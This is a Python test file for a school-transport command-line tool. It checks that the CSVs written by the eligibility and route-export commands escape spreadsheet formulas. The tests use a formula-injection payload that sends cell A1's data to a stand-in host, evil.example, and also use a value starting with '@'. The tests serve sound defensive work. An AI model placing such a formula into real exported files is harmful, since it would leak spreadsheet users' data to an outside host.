"""Every CSV the command line writes is safe to open in a spreadsheet (no formula runs)."""

import csv
import json

from tests.cli.test_cli import run
from transport.io.csv_out import FORMULA_TRIGGERS

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _formula(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: starts with a trigger and is not a plain number (-0.72)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_TRIGGERS)


def _cells(path):
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_eligibility_assess_out_and_errors_are_neutralised(tmp_path):
    """assess --out d.csv and --errors e.csv write a hostile application id with a leading quote."""
    apps = tmp_path / "apps.csv"
    apps.write_text("application_id,date_of_birth,sex,home_postcode,home_lat,home_lon,school_urn,travel_date\n"
                    f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",2016-03-01,F,LE15 8AA,,,138113,2025-09-03\n'
                    "@BAD-SCHOOL,2016-03-01,F,LE15 8AA,,,999999,2025-09-03\n", encoding="utf-8")
    out, errs = tmp_path / "d.csv", tmp_path / "e.csv"
    proc = run("eligibility", "assess", str(apps), "--out", str(out), "--errors", str(errs), "--policy", "statutory")
    assert proc.returncode == 0, proc.stderr
    decided, errors = _cells(out), _cells(errs)
    assert "'" + HOSTILE in decided and "'@BAD-SCHOOL" in errors
    assert not any(_formula(c) for c in decided + errors)


def test_routes_export_neutralises_a_hostile_school_name(tmp_path, drive_net):
    """routes export: a school named like a formula is written as text in the route sheets."""
    scen, plan, out = tmp_path / "s.json", tmp_path / "p.json", tmp_path / "routes"
    assert run("scenario", "generate", "--children", "4", "--seed", "3", "--out", str(scen)).returncode == 0
    data = json.loads(scen.read_text())
    for s in data["schools"]:
        s["name"] = HOSTILE
    scen.write_text(json.dumps(data))
    assert run("routes", "plan", str(scen), "--time-limit", "1", "--out", str(plan)).returncode == 0
    proc = run("routes", "export", str(plan), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    cells = [c for f in out.glob("*.csv") for c in _cells(f)]
    assert "'" + HOSTILE in cells
    assert not any(_formula(c) for c in cells)
